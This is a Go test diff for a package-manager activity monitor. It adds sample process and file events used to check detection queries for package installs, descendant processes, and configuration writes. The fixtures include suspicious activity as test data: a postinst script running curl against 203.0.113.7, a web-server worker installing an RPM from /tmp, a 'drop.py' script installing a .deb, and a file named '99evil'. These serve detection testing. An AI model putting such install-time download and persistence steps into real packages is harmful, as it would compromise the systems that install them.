@@ -3,6 +3,7 @@ package queries_test
 import (
 	"context"
 	"encoding/json"
+	"errors"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -29,7 +30,9 @@ const updateEnv = "PKGPERSIST_UPDATE_GOLDEN"
 // TestQueriesGolden runs every query of queries/ on every fixture root in
 // the embedded engine and compares the rows with the golden files
 // (PKGPERSIST_UPDATE_GOLDEN=1 rewrites them). A query that does not parse
-// or run fails here.
+// or run fails here. Event queries have no golden files: the engine
+// refuses them, saying what to use instead (TestEventQueries runs them on
+// sample events).
 func TestQueriesGolden(t *testing.T) {
 	qs, err := querydef.Load(queries.FS)
 	if err != nil {
@@ -45,6 +48,13 @@ func TestQueriesGolden(t *testing.T) {
 		}
 		for _, q := range qs {
 			res, err := e.Query(context.Background(), q.SQL)
+			var nes *engine.NoEventSource
+			if q.Kind == "event" {
+				if !errors.As(err, &nes) {
+					t.Errorf("%s on %s: %v, %v; the engine must refuse an event query", q.ID, root, res, err)
+				}
+				continue
+			}
 			if err != nil {
 				t.Errorf("%s on %s: %v", q.ID, root, err)
 				continue
@@ -159,7 +169,38 @@ func TestEventQueries(t *testing.T) {
 		INSERT INTO process_file_events VALUES
 		 ('write', '/usr/bin/python3', '/etc/apt/apt.conf.d/99evil', '', 30, 1, 0, 1),
 		 ('write', '/usr/bin/vim', '/usr/lib/python3/dist-packages/dnf-plugins/x.py', '', 31, 1, 0, 2),
-		 ('write', '/usr/bin/vim', '/etc/hosts', '', 32, 1, 0, 3);`); err != nil {
+		 ('write', '/usr/bin/vim', '/etc/hosts', '', 32, 1, 0, 3);
+		CREATE TEMP TABLE pm_process_events (eid, time, event, pid, ppid, path, cmdline, argv, cwd, uid, euid, gid, egid,
+		  parent_path, parent_cmdline, ancestry, exit_code, seeded);
+		INSERT INTO pm_process_events (eid, event, pid, path, argv, parent_path, parent_cmdline, ancestry) VALUES
+		 (10, 'exec', 10, '/usr/bin/apt-get', '["apt-get","install","vim"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash","/usr/lib/systemd/systemd"]'),
+		 (11, 'exec', 11, '/usr/bin/dpkg', '["/usr/bin/dpkg","--status-fd","23","--unpack","/var/cache/apt/archives/vim.deb"]', '/usr/bin/apt-get', 'apt-get install vim', '["/usr/bin/apt-get","/usr/bin/bash","/usr/lib/systemd/systemd"]'),
+		 (12, 'exec', 12, '/usr/bin/dash', '["/bin/sh","/var/lib/dpkg/info/vim.postinst","configure"]', '/usr/bin/dpkg', 'dpkg --configure vim', '["/usr/bin/dpkg","/usr/bin/apt-get","/usr/bin/bash","/usr/lib/systemd/systemd"]'),
+		 (13, 'exec', 13, '/usr/bin/curl', '["curl","http://203.0.113.7/p"]', '/usr/bin/dash', 'sh /var/lib/dpkg/info/vim.postinst configure', '["/usr/bin/dash","/usr/bin/dpkg","/usr/bin/apt-get","/usr/bin/bash","/usr/lib/systemd/systemd"]'),
+		 (21, 'exec', 21, '/usr/bin/rpm', '["rpm","-ivh","/tmp/x.rpm"]', '/usr/sbin/nginx', 'nginx: worker process', '["/usr/sbin/nginx","/usr/lib/systemd/systemd"]'),
+		 (22, 'exec', 22, '/usr/bin/rpm', '["rpm","-q","bash"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]'),
+		 (23, 'exec', 23, '/usr/bin/rpm', '["rpm","--import","/tmp/key"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]'),
+		 (24, 'exec', 24, '/usr/bin/dpkg', '["dpkg","-l"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]'),
+		 (25, 'exec', 25, '/usr/bin/dpkg', '["dpkg","-i","/tmp/z.deb"]', '/usr/bin/python3.12', 'python3 drop.py', '["/usr/bin/python3.12","/usr/bin/bash"]'),
+		 (26, 'fork', 26, '/usr/bin/dpkg', '["dpkg","-i","/tmp/z.deb"]', '/usr/bin/python3.12', 'python3 drop.py', '["/usr/bin/python3.12","/usr/bin/bash"]'),
+		 (27, 'exec', 27, '/usr/bin/dpkg', 'not json', '/usr/bin/bash', 'bash', 'not json'),
+		 (31, 'exec', 31, '/usr/bin/id', '["id"]', '/tmp/dpkg', 'dpkg', '["/tmp/dpkg","/usr/bin/bash"]'),
+		 (40, 'exec', 40, '/usr/bin/bash', '["/bin/sh","-c","x"]', '/usr/bin/python3.12', '/usr/bin/python3 -s /usr/bin/dnf install x', '["/usr/bin/python3.12","/usr/bin/bash"]'),
+		 (41, 'exec', 41, '/usr/bin/bash', '["/bin/sh","-c","x"]', '/usr/bin/python3.12', '/usr/bin/python3 /tmp/dnf install x', '["/usr/bin/python3.12","/usr/bin/bash"]');
+		CREATE TEMP TABLE pm_event_status (source, running, events, kept, lost_kernel, evicted, oldest_eid, newest_eid,
+		  oldest_time, max_events, expiry_seconds, error);
+		INSERT INTO pm_event_status VALUES
+		 ('process', 1, 200000, 50000, 0, 150000, 1, 200000, 1, 50000, 3600, ''),
+		 ('file', 0, 0, 0, 0, 0, 0, 0, 0, 50000, 3600, 'fanotify_init: operation not permitted');
+		CREATE TEMP TABLE pm_file_events (eid, time, action, target_path, pid, path, cmdline, ancestry, sha256, package, manager);
+		INSERT INTO pm_file_events VALUES
+		 (1, 1, 'CREATED', '/etc/apt/apt.conf.d/20listchanges', 11, '/usr/bin/dpkg', 'dpkg --unpack x.deb', '["/usr/bin/apt-get"]', 'a', 'apt-listchanges', 'dpkg'),
+		 (2, 2, 'CREATED', '/etc/apt/apt.conf.d/99evil', 12, '/usr/bin/dash', 'sh postinst', '["/usr/bin/dpkg","/usr/bin/apt-get"]', 'b', '', ''),
+		 (3, 3, 'CREATED', '/etc/apt/apt.conf.d/99x', 30, '/usr/bin/python3.12', 'python3 x.py', '["/usr/bin/bash"]', 'c', '', ''),
+		 (4, 4, 'UPDATED', '/etc/apt/apt.conf.d/20listchanges', 31, '/tmp/dpkg', 'dpkg', '["/usr/bin/bash"]', 'd', 'apt-listchanges', 'dpkg'),
+		 (5, 5, 'MOVED_TO', '/etc/dnf/plugins/copr.conf', 40, '/usr/bin/python3.12', '/usr/bin/python3 -s /usr/bin/dnf install x', '["/usr/bin/bash"]', 'e', 'dnf-plugins-core', 'rpm'),
+		 (6, 6, 'UPDATED', '/etc/yum/pluginconf.d/fastestmirror.conf', 41, '/usr/bin/vim', 'vim f', 'not json', 'f', 'yum', 'rpm'),
+		 (7, 7, 'UPDATED', '/etc/dnf/plugins/copr.conf', 42, '/usr/bin/bash', 'bash', '["/usr/bin/rpm"]', 'g', 'dnf-plugins-core', 'rpm');`); err != nil {
 		t.Fatal(err)
 	}
 	qs, err := querydef.Load(queries.FS)
@@ -172,6 +213,18 @@ func TestEventQueries(t *testing.T) {
 		"pm-file-events": "/etc/apt/apt.conf.d/99x",
 		// first column: operation
 		"pm-process-file-events": "write write",
+		// first column: eid. dpkg --unpack, rpm -ivh, dpkg -i by exec
+		// only; not rpm -q, --import, dpkg -l, a fork, a malformed argv
+		"pm-installs": "11 21 25",
+		// dpkg and its grandchild under apt-get, by executable path at
+		// any depth; dnf's direct child by its script's path; not a
+		// process named dpkg elsewhere, nor a script named dnf elsewhere
+		"pm-descendants": "11 12 13 40",
+		// left out only when a package manager (by path, in the
+		// ancestry, or dnf by its script) wrote a file a package owns
+		"pm-writes": "2 3 4 6",
+		// first column: source. Evictions alone are no loss
+		"pm-events-lost": "file",
 	}
 	for _, q := range qs {
 		w, ok := want[q.ID]
